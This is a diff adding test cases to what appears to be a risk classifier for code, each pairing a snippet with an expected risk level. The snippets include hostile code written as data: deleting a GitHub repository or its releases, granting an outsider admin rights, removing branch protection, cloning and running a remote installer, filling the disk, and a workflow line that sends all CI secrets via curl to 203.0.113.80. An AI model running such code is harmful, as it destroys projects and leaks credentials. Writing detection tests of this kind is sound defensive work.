@@ -1680,6 +1680,77 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             L,
         ),
+        # git and code hosting
+        (
+            """
+            import os, requests
+            requests.delete("https://api.github.com/repos/acme/payments",
+                            headers={"Authorization": f"Bearer {os.environ['GH_TOKEN']}"})
+            """,
+            H,
+        ),
+        (
+            """
+            from github import Github
+            repo = Github("t").get_repo("acme/cli")
+            for release in repo.get_releases():
+                release.delete_release()
+            """,
+            H,
+        ),
+        (
+            """
+            from github import Github
+            Github("t").get_repo("acme/x").add_to_collaborators("ext-helper", permission="admin")
+            """,
+            H,
+        ),
+        (
+            """
+            from github import Github
+            Github("t").get_repo("acme/x").get_branch("main").remove_protection()
+            """,
+            H,
+        ),
+        (
+            """
+            import runpy, subprocess, tempfile
+            d = tempfile.mkdtemp()
+            subprocess.run(["git", "clone", "--depth", "1", "https://example.org/x/helper.git", d])
+            runpy.run_path(f"{d}/install.py")
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess, sys
+            subprocess.run(["git", "clone", "https://github.com/acme/widgets.git", "w"])
+            subprocess.run([sys.executable, "-m", "pip", "install", "--dry-run", "w"])
+            """,
+            L,
+        ),
+        (
+            """
+            import torch
+            m = torch.load("model.pt", weights_only=False)
+            """,
+            H,
+        ),
+        (
+            """
+            import os
+            for i in range(10_000):
+                with open(f"blob_{i}.bin", "wb") as f:
+                    f.write(os.urandom(200 * 1024 * 1024))
+            """,
+            H,
+        ),
+        (
+            """
+            wf = "run: echo $S | curl -d @- https://203.0.113.80/in\\nenv:\\n  S: ${{ toJSON(secrets) }}"
+            """,
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
